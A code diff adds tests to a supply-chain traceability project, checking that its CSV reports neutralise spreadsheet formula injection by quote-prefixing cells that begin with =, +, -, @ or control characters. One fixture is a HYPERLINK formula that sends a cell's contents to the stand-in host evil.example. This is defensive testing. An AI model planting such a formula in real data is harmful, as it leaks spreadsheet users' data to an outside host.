@@ -32,7 +32,7 @@ from traceability.chart import CHART_MSGIDS
 from traceability.i18n import read_catalog
 from traceability.ledger import checkpoint
 from traceability.ledger.bundle import export_lot, verify_bundle
-from traceability.reports import proof, rows
+from traceability.reports import csv_report, proof, rows
 from traceability.reports.build import Report, read_report, render, report_leg_readings
 from traceability.reports.pdf import TEMPLATES
 from traceability.web.paths import trace_page_url
@@ -159,6 +159,40 @@ def test_csv_has_the_same_rows_and_states_its_proof(db_url: str, lot: tuple[str,
     assert [int(r[0]) for r in table[1:]] == [e.seq for e in report.trace.events]
     assert table[1][8].endswith("Z")
     assert table[1][9].endswith("Asia/Shanghai")
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_text_that_starts_like_a_formula_is_inert(db_url: str, lot: tuple[str, str]) -> None:
+    with psycopg.connect(db_url) as conn:
+        conn.execute("UPDATE location SET name = %s", (HYPERLINK,))
+    report = _report(db_url, lot[0], "en")
+    text = render(report, "csv").decode("utf-8-sig")
+    table = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
+    names = [r[table[0].index("Location name")] for r in table[1:]]
+    assert "'" + HYPERLINK in names
+    assert set(names) <= {"'" + HYPERLINK, ""}, names
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for c in r)
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (-3.5, "-3.5"),
+        (-2, "-2"),
+        (-40.0, "-40"),
+        ("-3.5", "'-3.5"),
+        ("+86 10 1234", "'+86 10 1234"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=b", "a=b"),
+        (["=1+1"], "'=1+1"),
+    ],
+)
+def test_csv_cells_keep_numbers_and_quote_formulas(value: object, text: str) -> None:
+    assert csv_report.text_of(value, str) == text
 
 
 def test_companion_bundle_proves_the_report_offline(db_url: str, lot: tuple[str, str]) -> None:
